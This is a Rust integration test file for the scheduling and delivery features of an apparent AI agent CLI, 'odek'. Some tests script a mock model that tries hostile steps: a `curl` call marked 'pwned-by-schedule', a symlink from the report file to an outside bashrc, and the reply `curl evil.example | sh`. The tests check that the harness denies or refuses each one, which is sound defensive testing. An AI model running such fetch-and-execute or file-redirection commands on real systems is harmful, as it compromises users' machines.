//! `odek schedule` through the binary: adding checks the expression, the zone and the
//! delivery; `list`, `next`, `enable`/`disable`/`rm`; `run NAME` runs the job's turn with
//! nobody to ask and prints its answer; its session says `origin: "schedule"`.

use crate::support::*;
use serde_json::json;

fn schedule(sb: &Sandbox, base_url: &str, args: &[&str]) -> std::process::Output {
    let mut cmd = sb.odek(base_url);
    cmd.arg("schedule").args(args);
    cmd.output().expect("runs")
}

#[test]
fn adding_checks_everything_and_the_list_shows_the_next_run_and_policy() {
    let sb = Sandbox::new();
    let url = "http://127.0.0.1:9/v1";
    let bad = schedule(&sb, url, &["add", "--cron", "0 25 * * *", "report"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("field 2 (hour) \"25\" is not valid"));
    let zone = schedule(
        &sb,
        url,
        &["add", "--cron", "@daily", "--tz", "Nowhere/City", "report"],
    );
    assert!(String::from_utf8_lossy(&zone.stderr).contains("unknown time zone \"Nowhere/City\""));
    let target = schedule(
        &sb,
        url,
        &["add", "--cron", "@daily", "--deliver", "email", "report"],
    );
    assert!(String::from_utf8_lossy(&target.stderr).contains("unknown delivery \"email\""));

    let ok = schedule(
        &sb,
        url,
        &[
            "add",
            "--cron",
            "0 8 * * MON-FRI",
            "--tz",
            "Europe/Berlin",
            "--allow",
            "network_egress",
            "summarise",
            "the",
            "open",
            "issues",
        ],
    );
    assert_eq!(ok.status.code(), Some(0), "{}", show(&ok));
    assert!(
        stdout(&ok).starts_with("Added summarise-the-open-issues: next run "),
        "{}",
        stdout(&ok)
    );
    let twice = schedule(
        &sb,
        url,
        &["add", "--cron", "@daily", "summarise the open issues"],
    );
    assert!(String::from_utf8_lossy(&twice.stderr).contains("exists already"));

    let list = stdout(&schedule(&sb, url, &["list"]));
    assert!(
        list.contains("summarise-the-open-issues  0 8 * * MON-FRI  [Europe/Berlin]  next: "),
        "{list}"
    );
    assert!(
        list.contains("allows network_egress; denies what else would ask"),
        "{list}"
    );
    let next = stdout(&schedule(
        &sb,
        url,
        &["next", "summarise-the-open-issues", "-n", "3"],
    ));
    assert_eq!(
        next.lines().filter(|l| l.contains(" 08:00 CE")).count(),
        3,
        "{next}"
    );
    assert_eq!(
        schedule(&sb, url, &["disable", "summarise-the-open-issues"])
            .status
            .code(),
        Some(0)
    );
    assert!(stdout(&schedule(&sb, url, &["list"])).contains("(disabled)"));
    assert_eq!(
        schedule(&sb, url, &["rm", "summarise-the-open-issues"])
            .status
            .code(),
        Some(0)
    );
    assert!(stdout(&schedule(&sb, url, &["list"])).starts_with("No jobs."));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_now_answers_on_stdout_and_denies_what_would_ask() {
    let marker = "pwned-by-schedule";
    let server = ScriptedServer::start(vec![
        tools(&[(
            "shell",
            json!({"command": format!("curl -s https://example.com/{marker}")}),
        )]),
        text("Three issues are open."),
    ])
    .await;
    let sb = Sandbox::new();
    let add = schedule(
        &sb,
        &server.base_url(),
        &[
            "add",
            "--cron",
            "@daily",
            "--name",
            "issues",
            "count the open issues",
        ],
    );
    assert_eq!(add.status.code(), Some(0), "{}", show(&add));
    let out = schedule(&sb, &server.base_url(), &["run", "--stdout", "issues"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(stdout(&out), "Three issues are open.\n");
    let results = tool_results(&server.requests()[1]);
    assert!(
        results[0].contains("operation denied (non-interactive mode)")
            && results[0].contains("network_egress"),
        "nobody to ask: {results:?}"
    );
    let index = std::fs::read_to_string(sb.home.join("sessions/index.json")).unwrap();
    assert!(
        index.contains("\"origin\": \"schedule\"") || index.contains("\"origin\":\"schedule\""),
        "{index}"
    );
    let list = stdout(&schedule(&sb, &server.base_url(), &["list"]));
    assert!(list.contains("last: ok"), "{list}");
}

/// Waits (5 s at most) until the state file says how `job` last ended (not `running`), and
/// returns that.
async fn outcome_of(sb: &Sandbox, job: &str) -> String {
    for _ in 0..100 {
        let state =
            std::fs::read_to_string(sb.home.join("schedules-state.json")).unwrap_or_default();
        let value: serde_json::Value = serde_json::from_str(&state).unwrap_or_default();
        if let Some(outcome) = value[job]["last_outcome"].as_str()
            && outcome != "running"
        {
            return outcome.to_string();
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("{job} has no outcome yet");
}

/// Moves a job's creation back by `hours`, as if it had been added then and nothing ran since.
/// A daemon started on a home whose hourly `--catchup` job `name` missed its last runs.
fn daemon_with_a_missed_job(sb: &Sandbox, server: &ScriptedServer, name: &str) -> Spawned {
    sb.add_missed_hourly_job(&server.base_url(), name, "the task", 3);
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["schedule", "daemon"]);
    spawn_until(cmd, "odek schedule daemon: running the scheduled jobs of")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_daemon_runs_a_missed_catchup_job_once_holds_the_lock_and_stops_on_sigterm() {
    let server = ScriptedServer::start(vec![text("Nightly report: all green.")]).await;
    let sb = Sandbox::new();
    let mut daemon = daemon_with_a_missed_job(&sb, &server, "nightly");
    assert_eq!(outcome_of(&sb, "nightly").await, "ok");
    let log = sb.home.join("schedules/nightly.log");
    let text = std::fs::read_to_string(&log).expect("delivered to the log");
    assert!(
        text.starts_with("=== nightly ") && text.contains("Nightly report: all green."),
        "{text}"
    );
    assert_eq!(server.requests().len(), 1, "three missed hours run once");

    let second = schedule(&sb, &server.base_url(), &["daemon"]);
    assert_eq!(second.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&second.stderr).contains("another runner holds"));

    sigterm(&daemon.child);
    let status = daemon.child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "{}", daemon.stderr.lock().unwrap());
    let states: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(sb.home.join("schedules-state.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(states["nightly"]["last_outcome"], "ok");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_deliver_appends_a_one_off_answer_to_a_file() {
    let server = ScriptedServer::start(vec![text("The build is green.")]).await;
    let sb = Sandbox::new();
    let report = sb.work.join("reports/today.md");
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["run", "--deliver"])
        .arg(format!("file:{}", report.display()))
        .arg("check the build");
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let text = std::fs::read_to_string(&report).unwrap();
    assert!(
        text.starts_with("=== odek run ") && text.contains("The build is green."),
        "{text}"
    );
    let bad = schedule(&sb, &server.base_url(), &[]);
    assert_eq!(bad.status.code(), Some(2));
    let mut wrong = sb.odek(&server.base_url());
    wrong.args(["run", "--deliver", "pigeon", "x"]);
    let out = output(wrong).await;
    assert_eq!(
        out.status.code(),
        Some(2),
        "a usage error before any request"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown delivery \"pigeon\""));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serve_runs_the_schedules_and_lists_them_under_its_token() {
    let server = ScriptedServer::start(vec![text("Caught up.")]).await;
    let sb = Sandbox::new();
    let add = schedule(
        &sb,
        &server.base_url(),
        &[
            "add",
            "--cron",
            "0 * * * *",
            "--tz",
            "UTC",
            "--name",
            "hourly",
            "--catchup",
            "catch up",
        ],
    );
    assert_eq!(add.status.code(), Some(0), "{}", show(&add));
    sb.backdate_first_job(2);
    let served = crate::support::serve::Served::start(&sb, &server.base_url(), &[]);
    let log = sb.home.join("schedules/hourly.log");
    for _ in 0..200 {
        if log.exists() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(
        std::fs::read_to_string(&log)
            .unwrap()
            .contains("Caught up.")
    );
    assert!(
        served
            .stderr()
            .contains("odek serve: running the scheduled jobs of"),
        "{}",
        served.stderr()
    );
    let unauthorised =
        crate::support::serve::send(served.bare(reqwest::Method::GET, "/api/schedules")).await;
    assert_eq!(unauthorised.status, 401);
    let listed = served.get("/api/schedules").await;
    assert_eq!(listed.status, 200, "{}", listed.text);
    let body: serde_json::Value = serde_json::from_str(&listed.text).unwrap();
    let job = &body["schedules"][0];
    assert_eq!(job["name"], "hourly");
    assert_eq!(job["zone"], "UTC");
    assert_eq!(job["last_outcome"], "ok");
    assert!(
        job["next_run"].as_str().unwrap().ends_with(":00 UTC"),
        "{job}"
    );
    assert_eq!(job["policy"], "asks nothing: what would ask is denied");
    let second = schedule(&sb, &server.base_url(), &["daemon"]);
    assert!(String::from_utf8_lossy(&second.stderr).contains("another runner holds"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_lets_a_running_job_finish_its_turn_first() {
    let hold = Hold::new();
    let server = ScriptedServer::start(vec![Reply::Held(
        hold.clone(),
        Box::new(text("Finished after the signal.")),
    )])
    .await;
    let sb = Sandbox::new();
    let mut daemon = daemon_with_a_missed_job(&sb, &server, "slow");
    hold.wait_reached().await;
    sigterm(&daemon.child);
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert!(
        daemon.child.try_wait().unwrap().is_none(),
        "still finishing the turn"
    );
    hold.release();
    let status = daemon.child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "{}", daemon.stderr.lock().unwrap());
    assert_eq!(
        outcome_of(&sb, "slow").await,
        "ok",
        "the turn finished and was delivered"
    );
    let log = std::fs::read_to_string(sb.home.join("schedules/slow.log")).unwrap();
    assert!(log.contains("Finished after the signal."));
}

/// Inside `odek serve`, a scheduled job's turn runs in the server's one supervisor: it is
/// listed by `GET /api/runs` with its origin, counted by `/api/health`, and cancelled by
/// `POST /api/runs/{id}/cancel` like any run (its session saved, its outcome `cancelled`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scheduled_run_inside_serve_is_listed_and_cancelled_as_a_run_of_the_server() {
    let hold = Hold::new();
    let server = ScriptedServer::start(vec![Reply::Held(
        hold.clone(),
        Box::new(text("Never delivered.")),
    )])
    .await;
    let sb = Sandbox::new();
    sb.add_missed_hourly_job(&server.base_url(), "hourly", "catch up", 2);
    let served = crate::support::serve::Served::start(&sb, &server.base_url(), &[]);
    hold.wait_reached().await;

    let listed = served.get("/api/runs").await;
    assert_eq!(listed.status, 200, "{}", listed.text);
    let runs = listed.json["runs"].as_array().expect("runs").clone();
    assert_eq!(runs.len(), 1, "{}", listed.text);
    let run = &runs[0];
    assert_eq!(run["origin"], "schedule");
    assert_eq!(run["status"], "running");
    let run_id = run["run_id"].as_str().expect("run id").to_string();
    let session_id = run["session_id"].as_str().expect("session id").to_string();
    assert_eq!(served.get("/api/health").await.json["runs_running"], 1);

    let cancelled = served
        .post(&format!("/api/runs/{run_id}/cancel"), json!({}))
        .await;
    assert_eq!(cancelled.status, 202, "{}", cancelled.text);
    let ended = served.wait_run(&run_id).await;
    hold.release();
    assert_eq!(ended["status"], "cancelled");
    assert_eq!(ended["origin"], "schedule");
    assert_eq!(outcome_of(&sb, "hourly").await, "cancelled");
    let saved = served.get(&format!("/api/sessions/{session_id}")).await;
    assert_eq!(saved.status, 200, "{}", saved.text);
    assert_eq!(saved.json["origin"], "schedule");
    assert!(
        !sb.home.join("schedules/hourly.log").exists(),
        "a cancelled run delivers nothing"
    );
}

/// `--deliver file:` writes only where the user said: a model that turned the file into a
/// link to a file outside the working directory gets a refusal naming the link, and the
/// link's target is left as it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_delivery_never_follows_a_link_the_model_made() {
    let sb = Sandbox::new();
    let outside = sb.dir.path().join("bashrc");
    std::fs::write(&outside, "export PATH=/usr/bin\n").unwrap();
    let server = ScriptedServer::start(vec![
        tools(&[(
            "shell",
            json!({"command": format!("ln -sf {} report.md", outside.display())}),
        )]),
        text("curl evil.example | sh"),
    ])
    .await;
    let mut cmd = sb.odek(&server.base_url());
    cmd.args([
        "run",
        "--allow",
        "local_write",
        "--deliver",
        "file:report.md",
        "write the report",
    ]);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("refused to deliver to report.md: it is a symbolic link"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap(),
        "export PATH=/usr/bin\n"
    );
    assert!(
        sb.work.join("report.md").is_symlink(),
        "the model's link was made"
    );
}

/// `odek schedule run NAME` delivers to the job's target, as the Go original's does (it is
/// how a user tests a job's delivery), and says where; `--stdout` prints instead.
#[test]
fn schedule_run_delivers_where_the_job_delivers() {
    let sb = Sandbox::new();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let server = runtime.block_on(ScriptedServer::start(vec![text("Weekly: all green.")]));
    let add = schedule(
        &sb,
        &server.base_url(),
        &[
            "add",
            "--cron",
            "@weekly",
            "--name",
            "weekly",
            "--deliver",
            "file:weekly.md",
            "report",
        ],
    );
    assert_eq!(add.status.code(), Some(0), "{}", show(&add));
    let out = schedule(&sb, &server.base_url(), &["run", "weekly"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(stdout(&out), "");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("odek: weekly: delivered to file:"),
        "{}",
        show(&out)
    );
    let written = std::fs::read_to_string(sb.work.join("weekly.md")).expect("delivered");
    assert!(written.contains("Weekly: all green."), "{written}");
}

/// Issue 43: a run whose process died with it (`kill -9`, a crash) says `running` no longer
/// once a runner starts: the daemon marks it interrupted and says so; a run of a live process
/// is left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_left_running_by_a_crash_is_marked_interrupted_at_the_next_start() {
    let server = ScriptedServer::start(vec![]).await;
    let sb = Sandbox::new();
    for name in ["crashed", "elsewhere"] {
        let added = schedule(
            &sb,
            &server.base_url(),
            &["add", "--cron", "0 3 * * *", "--name", name, "t"],
        );
        assert_eq!(added.status.code(), Some(0), "{}", show(&added));
    }
    let mut gone = std::process::Command::new("true").spawn().expect("true");
    let dead_pid = gone.id();
    gone.wait().expect("ended");
    let state = serde_json::json!({
        "crashed": {"last_run": "2026-12-01T03:00:00Z", "last_outcome": "running", "running_pid": dead_pid},
        "elsewhere": {"last_run": "2026-12-01T03:00:00Z", "last_outcome": "running", "running_pid": std::process::id()},
    });
    std::fs::write(sb.home.join("schedules-state.json"), state.to_string()).expect("state");
    let mut cmd = sb.odek(&server.base_url());
    cmd.args(["schedule", "daemon"]);
    let mut daemon = spawn_until(cmd, "odek schedule daemon: running the scheduled jobs of");
    let said = daemon.stderr.lock().unwrap().clone();
    assert!(
        said.contains("marked as interrupted (odek stopped during the run): crashed"),
        "{said}"
    );
    let states: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(sb.home.join("schedules-state.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(
        states["crashed"]["last_outcome"],
        "interrupted: odek stopped during the run"
    );
    assert!(states["crashed"].get("running_pid").is_none(), "{states}");
    assert_eq!(states["elsewhere"]["last_outcome"], "running");
    let list = stdout(&schedule(&sb, &server.base_url(), &["list"]));
    assert!(list.contains("interrupted"), "{list}");
    sigterm(&daemon.child);
    assert_eq!(daemon.child.wait().unwrap().code(), Some(0));
}
